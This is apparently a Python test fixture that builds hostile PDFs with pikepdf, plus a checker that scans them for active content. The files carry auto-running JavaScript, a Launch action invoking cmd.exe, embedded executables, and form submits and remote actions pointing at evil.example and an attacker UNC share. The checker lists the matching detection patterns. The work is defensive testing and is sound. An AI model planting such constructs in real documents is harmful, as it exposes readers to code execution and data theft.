"""Hostile PDFs built with pikepdf, one per kind of active content, and a check that a PDF holds none.

Used by the upload tests (tests/ddasum/test_pdf_clean.py, the vendor and procurement upload tests)
and the bundle tests. Each maker gives a valid one-page (or two-page) PDF a reader would act on.
"""
import io
import re

import pikepdf
from pikepdf import Array, Dictionary, Name, Stream, String

# PDF names none of which may be left in a cleaned file (a name ends where a letter, digit or + does
# not follow: a font subset tag such as /AABCDE+NanumGothic is not /AA).
NAMES = re.compile(rb"/(JavaScript|JS|Launch|SubmitForm|EmbeddedFiles?|RichMedia\w*|XFA|AcroForm|OpenAction|AA|URI|GoToR"
                   rb"|ImportData)(?![A-Za-z0-9+])")
# What the hostile files carry, looked for in the bytes and in every decoded stream.
PAYLOADS = (b"app.alert", b"xfa.host", b"not really an exe", b"evil.example", b"cmd.exe", b"attacker",
            b"fileattachment-payload", b"richmedia-payload", b"submitForm")


def _new(pages: int = 1) -> pikepdf.Pdf:
    pdf = pikepdf.new()
    for _ in range(pages):
        pdf.add_blank_page(page_size=(595, 842))
    return pdf


def _bytes(pdf: pikepdf.Pdf) -> bytes:
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()


def _js(code: str) -> Dictionary:
    return Dictionary(Type=Name.Action, S=Name.JavaScript, JS=String(code))


def _link(pdf, action: Dictionary, **extra) -> Dictionary:
    return pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[10, 10, 90, 40], A=action, **extra))


def open_action_js() -> bytes:
    pdf = _new()
    pdf.Root.OpenAction = pdf.make_indirect(_js("app.alert('openaction')"))
    return _bytes(pdf)


def page_aa_js() -> bytes:
    pdf = _new()
    pdf.pages[0].obj.AA = Dictionary(O=_js("app.alert('page-open')"), C=_js("app.alert('page-close')"))
    pdf.Root.AA = Dictionary(WC=_js("app.alert('will-close')"))
    return _bytes(pdf)


def annotation_aa_js() -> bytes:
    pdf = _new(2)
    goto = Dictionary(S=Name.GoTo, D=Array([pdf.pages[1].obj, Name.Fit]))
    pdf.pages[0].obj.Annots = Array([_link(pdf, goto, AA=Dictionary(E=_js("app.alert('mouse-enter')")))])
    return _bytes(pdf)


def javascript_name_tree() -> bytes:
    pdf = _new()
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("init"), _js("app.alert('named')")])))
    return _bytes(pdf)


def launch_action() -> bytes:
    pdf = _new()
    launch = Dictionary(Type=Name.Action, S=Name.Launch, F=String("cmd.exe"),
                        Win=Dictionary(F=String("cmd.exe"), P=String("/c calc")))
    pdf.pages[0].obj.Annots = Array([_link(pdf, launch)])
    outlines = pdf.make_indirect(Dictionary(Type=Name.Outlines, Count=1))
    item = pdf.make_indirect(Dictionary(Title=String("evil"), Parent=outlines, A=launch))
    outlines.First = item
    outlines.Last = item
    pdf.Root.Outlines = outlines
    return _bytes(pdf)


def embedded_file() -> bytes:
    pdf = _new()
    pdf.attachments["invoice.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ\x90\x00 not really an exe",
                                                              mime_type="application/octet-stream")
    fs = pdf.make_indirect(Dictionary(Type=Name.Filespec, F=String("a.bin"),
                                      EF=Dictionary(F=pdf.make_stream(b"MZ\x90 fileattachment-payload"))))
    pdf.pages[0].obj.Annots = Array([
        Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=[20, 0, 30, 10], FS=fs),
    ])
    return _bytes(pdf)


def form_submit() -> bytes:
    pdf = _new()
    submit = Dictionary(S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F=String("https://evil.example/c")), Flags=4)
    ap = pdf.make_stream(b"0 0 1 rg 0 0 80 20 re f", Type=Name.XObject, Subtype=Name.Form, BBox=[0, 0, 80, 20])
    button = pdf.make_indirect(Dictionary(
        Type=Name.Annot, Subtype=Name.Widget, FT=Name.Btn, Ff=65536, T=String("send"),
        Rect=[10, 10, 90, 30], P=pdf.pages[0].obj, A=submit, AP=Dictionary(N=ap), F=4,
    ))
    text = pdf.make_indirect(Dictionary(
        Type=Name.Annot, Subtype=Name.Widget, FT=Name.Tx, T=String("name"), V=String("Kim"),
        Rect=[10, 50, 150, 70], P=pdf.pages[0].obj, F=4, DA=String("/Helv 10 Tf 0 g"),
        AA=Dictionary(K=_js("event.rc = true;"), V=_js("this.submitForm('https://evil.example');")),
    ))
    pdf.pages[0].obj.Annots = Array([button, text])
    pdf.Root.AcroForm = Dictionary(
        Fields=Array([button, text]), NeedAppearances=True, DA=String("/Helv 10 Tf 0 g"),
        DR=Dictionary(Font=Dictionary(Helv=Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica))),
    )
    return _bytes(pdf)


def xfa_form() -> bytes:
    pdf = _new()
    pdf.Root.AcroForm = Dictionary(
        Fields=Array([]), XFA=pdf.make_stream(b"<xdp:xdp><script>xfa.host.messageBox('x')</script></xdp:xdp>"))
    return _bytes(pdf)


def rich_media() -> bytes:
    pdf = _new()
    pdf.pages[0].obj.Annots = Array([
        Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, Rect=[0, 0, 10, 10],
                   RichMediaContent=Dictionary(Assets=Dictionary(Names=Array([
                       String("movie.swf"), Dictionary(Type=Name.Filespec, EF=Dictionary(F=pdf.make_stream(b"MZ\x90 richmedia-payload")))]))),
                   RichMediaSettings=Dictionary()),
    ])
    return _bytes(pdf)


def remote_actions() -> bytes:
    """GoToR, ImportData and a javascript: URI, each on a link."""
    pdf = _new()
    gotor = Dictionary(S=Name.GoToR, F=String("\\\\attacker\\share\\x.pdf"), D=Array([0, Name.Fit]))
    import_data = Dictionary(S=Name.ImportData, F=String("https://evil.example/data.fdf"))
    uri = Dictionary(S=Name.URI, URI=String("javascript:app.alert('uri')"))
    pdf.pages[0].obj.Annots = Array([_link(pdf, gotor), _link(pdf, import_data), _link(pdf, uri)])
    return _bytes(pdf)


HOSTILE = {
    "open_action_js": open_action_js,
    "page_aa_js": page_aa_js,
    "annotation_aa_js": annotation_aa_js,
    "javascript_name_tree": javascript_name_tree,
    "launch_action": launch_action,
    "embedded_file": embedded_file,
    "form_submit": form_submit,
    "xfa_form": xfa_form,
    "rich_media": rich_media,
    "remote_actions": remote_actions,
}


def benign_with_internal_link() -> bytes:
    pdf = _new(2)
    pdf.pages[0].obj.Annots = Array([_link(pdf, Dictionary(S=Name.GoTo, D=Array([pdf.pages[1].obj, Name.Fit])))])
    return _bytes(pdf)


def encrypted(*, user: str = "u", owner: str = "o", data: bytes | None = None) -> bytes:
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(data or benign_with_internal_link())) as pdf:
        pdf.save(out, encryption=pikepdf.Encryption(user=user, owner=owner))
    return out.getvalue()


def _decoded(stream) -> bytes:
    try:
        return stream.read_bytes()
    except pikepdf.PdfError:  # a filter pikepdf does not decode (e.g. an image's DCT): as stored
        return stream.read_raw_bytes()


def active_content(data: bytes) -> list[str]:
    """What active content `data` still holds: names and payloads in its bytes and decoded streams ([] = none)."""
    found = sorted({m.group(0).decode() for m in NAMES.finditer(data)})
    found += [p.decode() for p in PAYLOADS if p in data]
    with pikepdf.open(io.BytesIO(data)) as pdf:
        for obj in pdf.objects:
            if isinstance(obj, Stream):
                body = _decoded(obj)
                found += [p.decode() for p in PAYLOADS if p in body]
            if isinstance(obj, (Dictionary, Stream)):
                found += [str(k) for k in obj.keys() if str(k) in {"/AA", "/OpenAction", "/JS", "/EF", "/AcroForm",
                                                                    "/XFA", "/RichMediaContent", "/EmbeddedFiles"}]
                action = obj.get("/A")
                if isinstance(action, Dictionary) and action.get("/S") not in (None, Name.GoTo):
                    found.append(f"action {action.get('/S')}")
    return found
